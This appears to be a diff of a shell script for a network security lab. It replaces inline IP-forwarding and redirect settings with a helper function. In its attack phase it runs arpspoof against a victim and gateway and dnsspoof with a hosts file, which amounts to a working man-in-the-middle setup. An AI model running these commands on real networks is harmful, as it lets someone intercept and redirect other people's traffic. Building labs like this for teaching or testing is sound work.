@@ -39,9 +39,7 @@ done
 sleep 1
 
 lab_phase attack
-lab_exec attacker sh -c 'echo 1 >/proc/sys/net/ipv4/ip_forward;
-	echo 0 >/proc/sys/net/ipv4/conf/all/send_redirects;
-	echo 0 >/proc/sys/net/ipv4/conf/eth0/send_redirects'
+lab_forwarding
 lab_bg attacker "$tmp/dnsspoof.log" timeout 20 dnsspoof -i eth0 -f "$tmp/spoof.hosts"
 dnsspoof=$lab_pid
 lab_bg attacker "$tmp/arpspoof.log" timeout 20 arpspoof -i eth0 -t "$LAB_VICTIM_IP" "$LAB_GW_IP"
